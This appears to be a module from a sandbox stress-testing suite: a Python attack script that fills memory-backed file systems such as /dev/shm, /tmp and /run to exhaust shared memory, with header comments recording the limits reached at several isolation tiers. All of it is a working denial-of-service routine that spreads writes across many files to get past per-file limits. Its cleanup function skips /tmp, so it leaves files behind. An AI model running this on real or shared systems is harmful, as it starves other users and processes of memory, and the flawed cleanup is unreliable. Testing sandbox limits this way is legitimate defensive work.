# attack: Fills the file systems that live in memory: /dev/shm, /tmp, /run, and whatever else is one.
# hurts: Takes the memory of everybody.
# at most at A: 72 MiB
# at most at B, C: 0 MiB
# ends: returns or error or memory or crash
import os

from _raw import MIB, took

MOST = 600
STEP = 4


def attack(target):
    piece, total, why = bytes(STEP * MIB), 0, []
    for folder in ("/dev/shm", "/tmp", "/run", "/dev", "/"):
        for number in range(40):  # a limit on one file is none on many
            try:
                with open(f"{folder}/{target['note']}-{number}", "wb", buffering=0) as file:
                    while total < MOST and file.write(piece) == len(piece):
                        total += STEP
                        took(total * MIB)
            except OSError as error:
                why.append(f"{folder}: {error}")
                if "too large" not in str(error):
                    break
    clean(target["note"])
    return [took(total * MIB), *why[:20]]


def clean(note):
    for folder in ("/dev/shm", "/run", "/dev", "/"):
        for number in range(40):
            path = f"{folder}/{note}-{number}"
            if os.path.exists(path):
                os.unlink(path)
